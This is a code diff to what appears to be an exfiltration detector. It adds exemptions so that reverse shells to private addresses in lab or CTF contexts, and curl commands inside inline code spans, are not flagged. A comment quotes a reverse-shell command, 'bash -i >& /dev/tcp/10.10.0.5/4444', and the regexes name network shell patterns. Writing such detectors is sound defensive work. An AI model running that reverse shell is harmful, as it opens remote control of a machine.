@@ -147,6 +147,28 @@ def _login_by_name(lowered: str, match: re.Match[str]) -> bool:
                               for use in uses)
 
 
+# a reverse shell to a private address in a lab the note names: «Reverse shell для демонстрации (только в лабе): bash -i >&
+# /dev/tcp/10.10.0.5/4444» (an attack's shell calls a host on the internet)
+_PRIVATE_TCP = re.compile(r"/dev/(?:tcp|udp)/(?:10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}"
+                          r"\.\d{1,3}|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|localhost)/\d+")
+_LAB = re.compile(r"\b(?:lab|labs|demo|ctf|sandbox|training|classroom|students?|workshop)\b|(?<!\w)(?:лаб\w*|демонстрац\w*|стенд\w*|"
+                  r"песочниц\w*|учебн\w*|студент\w*|занят\w*|ctf)(?!\w)")
+
+
+def _lab_shell(lowered: str, match: re.Match[str]) -> bool:
+    return "/dev/" in match.group() and _PRIVATE_TCP.search(match.group()) is not None and _LAB.search(lowered) is not None
+
+
+def _past_its_code(lowered: str, match: re.Match[str]) -> bool:
+    """Whether a command that opens an inline code span (`` `curl …` ``) is read as exfiltration only with the prose after
+    the span's end (`` `curl -H "x-apikey: $VT_API_KEY" https://…`. Ключ в .env ``: the file named is where the key is
+    kept, not what is sent)."""
+    if match.start() == 0 or lowered[match.start() - 1] != "`":
+        return False
+    close = lowered.find("`", match.start(), match.end())
+    return close >= 0 and not any(m.start() == match.start() for m in _SHELL.matches(lowered[:close]))
+
+
 def _own_login(lowered: str, match: re.Match[str]) -> bool:
     """Whether a network tool's match ends in the environment read as the request's own credentials, starts at a key read
     from the environment into a name used only so (`_login_by_name`), or starts at a secrets file the program loads as its
@@ -410,7 +432,8 @@ def find_exfiltration(text: str, lowered: str, present: frozenset[str] | set[str
             name = next(g for g in match.groups() if g is not None)
             if _SENSITIVE_SLOT.search(name) and not _DOC_SLOT.match(name.strip()):
                 return DNS_EXFIL
-    if not present.isdisjoint(_SHELL_HINTS_SET) and any(not _own_login(lowered, m) for m in _SHELL.matches(lowered, at)):
+    if not present.isdisjoint(_SHELL_HINTS_SET) and any(not _own_login(lowered, m) and not _past_its_code(lowered, m)
+                                                        and not _lab_shell(lowered, m) for m in _SHELL.matches(lowered, at)):
         return SHELL_EXFIL
     if ("@" in text or "://" in text) and _forwarding_rule(lowered):
         return MAIL_EXFIL
